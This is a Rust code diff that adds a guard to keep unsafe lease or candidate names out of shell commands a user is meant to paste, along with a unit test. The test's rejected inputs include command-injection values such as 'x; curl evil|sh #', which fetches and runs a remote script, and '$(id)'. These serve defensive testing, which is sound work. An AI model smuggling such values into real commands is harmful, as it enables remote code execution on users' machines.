@@ -223,6 +223,13 @@ pub fn grants(command: &str, user: &str, typed: Option<&str>, current: &str) -> 
     }
 }
 
+/// A name in a command to paste, or a placeholder for one that a shell would not take as it is. The API takes
+/// anything for the name of the lease that a candidate is for, and nearly anything for that of a candidate.
+pub fn pasted<'a>(name: &'a str, placeholder: &'a str) -> &'a str {
+    let is_plain = !name.starts_with('-') && quoted(name) == name;
+    if is_plain { name } else { placeholder }
+}
+
 /// A word as a shell takes it.
 fn quoted(word: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/@".contains(c);
@@ -235,6 +242,16 @@ fn quoted(word: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_name_that_a_shell_would_run_is_in_no_command() {
+        for name in ["kube-scheduler", "cp-1_6a1f", "example.com"] {
+            assert_eq!(pasted(name, "LEASE"), name);
+        }
+        for name in ["x; curl evil|sh #", "$(id)", "a b", "a\nb", "it's", "--all", ""] {
+            assert_eq!(pasted(name, "LEASE"), "LEASE", "{name:?}");
+        }
+    }
 
     #[test]
     fn what_is_missing_is_said_by_kind_and_place() {
